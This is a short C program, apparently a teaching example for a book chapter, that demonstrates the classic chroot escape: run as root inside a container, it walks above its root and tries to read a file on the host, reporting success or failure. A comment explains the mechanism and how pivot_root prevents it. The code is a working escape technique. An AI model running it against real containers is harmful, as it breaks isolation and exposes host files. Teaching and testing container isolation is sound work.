/*
 * breakout: the classic escape from a chroot, for chapter 3. Run it inside a container as root:
 *
 *     breakout FILE
 *
 * It prints "escaped: <first line of FILE>" when it could read FILE, a path on the HOST, from
 * inside the container, and "unreachable: FILE" when it could not.
 *
 * How: chroot(2) changes the root directory of this process, nothing else. A process whose working
 * directory is outside its root can walk up with chdir("..") past the root (the kernel stops ".."
 * only AT the root directory, and this process is never at it). So: make a directory, chroot into
 * it while the working directory stays where it is (now outside the new root), walk up to the real
 * top of the mount tree, and chroot there. After pivot_root and the old root's detachment there is
 * nothing above the container's root to walk to.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: breakout FILE\n");
		return 2;
	}
	mkdir("/breakout-jail", 0700); /* an EEXIST is fine */
	if (chroot("/breakout-jail") != 0) {
		perror("breakout: chroot /breakout-jail");
		return 2;
	}
	for (int i = 0; i < 256; i++) /* more than any path is deep */
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		perror("breakout: chroot .");
		return 2;
	}
	char line[256] = "";
	int fd = open(argv[1], O_RDONLY);
	if (fd < 0) {
		printf("unreachable: %s\n", argv[1]);
		return 0;
	}
	ssize_t n = read(fd, line, sizeof line - 1);
	line[n > 0 ? n : 0] = '\0';
	line[strcspn(line, "\n")] = '\0';
	printf("escaped: %s\n", line);
	return 0;
}
